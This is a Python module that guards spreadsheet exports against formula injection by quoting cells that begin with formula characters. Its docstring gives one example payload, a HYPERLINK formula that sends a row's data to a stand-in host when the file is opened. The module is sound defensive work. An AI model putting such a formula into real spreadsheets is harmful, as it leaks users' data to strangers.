"""Cells of the files GridBot writes (.xlsx, .csv), safe to open in Excel, WPS or LibreOffice.

Text people typed reaches these files: a 书面说明, a complaint's place, an Open311 client's
address_string. A cell that starts with = + - @, a tab or a carriage return (or the full-width
＝ ＋ － ＠, which spreadsheets also read as formulas) would run as a formula when the file
is opened: `=HYPERLINK("http://x.example/?"&A2,"点我")` sends the row to a stranger. OWASP's
rule for CSV injection: such a cell gets a single quote in front, and is then plain text. The
same rule for .xlsx (openpyxl would otherwise store the text as a formula) and for .csv, here
only: every row of every file goes through `safe_row`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def safe(value: Any) -> Any:
    """The value as a cell may hold it: text that a spreadsheet would run gets a leading '."""
    if isinstance(value, str) and value and (value[0] in FORMULA_STARTS or value.lstrip()[:1] in FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe(v) for v in values]


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file as Excel and WPS open it as it is (UTF-8 with a BOM), every cell safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
